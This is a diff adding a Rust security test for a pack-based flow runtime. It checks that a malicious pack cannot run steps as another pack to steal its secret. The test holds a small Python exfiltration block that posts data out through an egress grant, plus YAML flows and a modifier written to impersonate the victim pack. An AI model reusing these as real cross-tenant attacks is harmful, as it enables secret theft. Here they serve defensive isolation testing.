@@ -315,3 +315,163 @@ fn a_cron_run_survives_a_stall_across_the_minute_boundary() {
     assert_eq!(runs.len(), before + 1, "exactly one run caught up: {runs:?}");
     assert_eq!(runs[before]["success"], true);
 }
+
+/// What an exfiltrating block does: posts `s` through its own pack's egress grant.
+const EXFIL: &str = r#"
+import rumi_syscall
+
+def run(data, context):
+    r = rumi_syscall.post_json(data["url"], {"s": data.get("s")})
+    return {"status": r.get("status_code"), "error": r.get("error_type")}
+"#;
+
+/// Running as another pack: `evil` (no capability grant, an egress grant) injects a
+/// `function` step with `owner_pack: victim` into its own scheduled flow through its own
+/// modifier, to read victim's secret every 10 s and post it out. Also tried: the same in a
+/// flow file, a `python_file_call` of victim's code, and sub-flows (victim's own flow, an
+/// official flow naming victim) called from evil's flows. Nothing runs as victim for evil,
+/// each refusal is audited, and victim's flow and the operator's flow keep reading the secret.
+#[test]
+fn a_pack_never_runs_steps_as_another_pack_whatever_adds_them() {
+    let up = rumi_tests::upstream::Upstream::start();
+    let secret = "victim-secret-7f3a";
+    let home = TestHome::new();
+    victim(&home);
+    home.write(
+        "ecosystem/victim/flows/read.flow.yaml",
+        "flow_id: victim.read\nsteps:\n  - {id: get, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
+    );
+    home.write(
+        "flows/ops_read.flow.yaml",
+        "flow_id: ops.read\nsteps:\n  - {id: get, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
+    );
+    home.add_pack("evil");
+    home.write("ecosystem/evil/backend/blocks/exfil.py", EXFIL);
+    let url = up.url("/echo");
+    let exfil = |when: &str| {
+        format!(
+            "  - {{id: out, type: python_file_call, priority: 900, owner_pack: evil, file: exfil.py, when: \"{when}\", input: {{url: \"{url}\", s: \"{when}\"}}}}\n"
+        )
+    };
+    home.write(
+        "ecosystem/evil/flows/tick.flow.yaml",
+        &format!(
+            "flow_id: evil.tick\nschedule: {{interval: 10}}\nsteps:\n  - {{id: a, type: set, priority: 1, input: {{key: started, value: true}}}}\n{}",
+            exfil("$ctx.s.value")
+        ),
+    );
+    home.write(
+        "ecosystem/evil/flows/modifiers/steal.modifier.yaml",
+        "modifier_id: steal\ntarget_flow_id: evil.tick\naction: inject_after\ntarget_step_id: a\nstep: {id: grab, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
+    );
+    home.write(
+        "ecosystem/evil/flows/direct.flow.yaml",
+        "flow_id: evil.direct\nsteps:\n  - {id: b, type: python_file_call, owner_pack: victim, file: b.py, output: out}\n",
+    );
+    for (id, sub) in [("evil.relay", "victim.read"), ("evil.relay_ops", "ops.read")] {
+        home.write(
+            &format!("ecosystem/evil/flows/{id}.flow.yaml"),
+            &format!(
+                "flow_id: {id}\nsteps:\n  - {{id: call, type: flow, flow: {sub}, output: got}}\n{}",
+                exfil("$ctx.got.s.value")
+            ),
+        );
+    }
+    home.write(
+        "ecosystem/evil/flows/ping.flow.yaml",
+        &format!(
+            "flow_id: evil.ping\nsteps:\n  - {{id: a, type: set, priority: 1, input: {{key: s, value: {{value: harmless}}}}}}\n{}",
+            exfil("$ctx.s.value")
+        ),
+    );
+    let rumid = Rumid::builder(&home)
+        .env("RUMI_EGRESS_ALLOW_CIDRS", "127.0.0.1/32")
+        .spawn()
+        .unwrap();
+    let r = rumid.post("/api/secrets/set", Some(&json!({"key": "TOKEN", "value": secret})));
+    assert_eq!(r.status, 200, "{:?}", r.body);
+    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
+    rumid.grant_capability("victim", "secrets.get", json!({"allowed_keys": ["TOKEN"]}));
+    rumid.approve_and_grant("evil", &["127.0.0.1"], &[up.addr.port()]);
+    let flows = rumi_tests::eventually("evil's flows", patience(), || {
+        let f = rumid.get("/api/flows").body["data"].clone();
+        f["flows"]
+            .as_array()?
+            .iter()
+            .any(|f| f["flow_id"] == "evil.ping")
+            .then_some(f)
+    })
+    .unwrap();
+    rumi_tests::wait_socket(&rumid.capability_socket(&home, "victim")).unwrap();
+    rumi_tests::wait_socket(&rumid.egress_socket(&home, "evil")).unwrap();
+
+    // Refused at load, on the flows as modified: the modified flow and the flow file.
+    let ids: Vec<&str> = flows["flows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["flow_id"].as_str().unwrap())
+        .collect();
+    assert!(!ids.contains(&"evil.tick") && !ids.contains(&"evil.direct"), "{ids:?}");
+    let diags = flows["diagnostics"].to_string();
+    assert!(
+        diags.contains(r#"step \"grab\" (put there by modifier steal) runs as \"victim\", but a flow of pack evil may only run steps as evil"#),
+        "{diags}"
+    );
+    assert!(diags.contains(r#"step \"b\" runs as \"victim\""#), "{diags}");
+    assert_eq!(rumid.run_flow("evil.tick", json!({}), 30.0).status, 404);
+    let refused = home.audit_actions("security", "step_owner_refused");
+    let at_load = |flow: &str| {
+        refused
+            .iter()
+            .find(|e| e["flow_id"] == flow && e["details"]["stage"] == "load")
+            .unwrap_or_else(|| panic!("no load refusal of {flow}: {refused:?}"))
+            .clone()
+    };
+    let tick = at_load("evil.tick");
+    assert_eq!(
+        (
+            &tick["owner_pack"],
+            &tick["modifier_id"],
+            &tick["details"]["requested_owner"],
+            &tick["step_id"]
+        ),
+        (&json!("evil"), &json!("steal"), &json!("victim"), &json!("grab"))
+    );
+    assert_eq!(at_load("evil.direct")["details"]["requested_owner"], "victim");
+
+    // The exfiltration path itself works (a harmless value goes out) ...
+    let r = rumid.run_flow("evil.ping", json!({}), 60.0);
+    assert_eq!(r.status, 200, "{:?}", r.body);
+    assert_eq!(up.hits(), 1, "the egress grant works: {:?}", r.body);
+    // ... but sub-flows run nothing as victim for evil: victim's own flow, an official one.
+    for (relay, sub) in [("evil.relay", "victim.read"), ("evil.relay_ops", "ops.read")] {
+        let r = rumid.run_flow(relay, json!({}), 60.0);
+        assert_eq!(r.status, 200, "{:?}", r.body);
+        assert!(!r.body.to_string().contains(secret), "{:?}", r.body);
+        let e = home
+            .audit_actions("security", "step_owner_refused")
+            .into_iter()
+            .find(|e| e["flow_id"] == sub && e["details"]["stage"] == "run")
+            .unwrap_or_else(|| panic!("no run refusal under {relay}"));
+        assert_eq!(e["owner_pack"], "evil");
+        assert_eq!(e["details"]["call_chain"], json!([relay, sub]));
+    }
+    // One schedule interval later, still nothing left (the stealing flow never loaded).
+    std::thread::sleep(std::time::Duration::from_secs(11));
+    assert_eq!(up.hits(), 1, "the secret never went out");
+    let calls = home.audit_actions("permission", "permission_execute");
+    assert!(
+        calls
+            .iter()
+            .all(|c| c["details"]["request_id"] != "flow:evil.tick:grab"),
+        "{calls:?}"
+    );
+
+    // Meanwhile victim's own flow and the operator's flow read the secret.
+    for id in ["victim.read", "ops.read"] {
+        let r = rumid.run_flow(id, json!({}), 30.0);
+        assert_eq!(r.status, 200, "{:?}", r.body);
+        assert_eq!(r.body["data"]["result"]["s"]["value"], secret, "{id}: {:?}", r.body);
+    }
+}
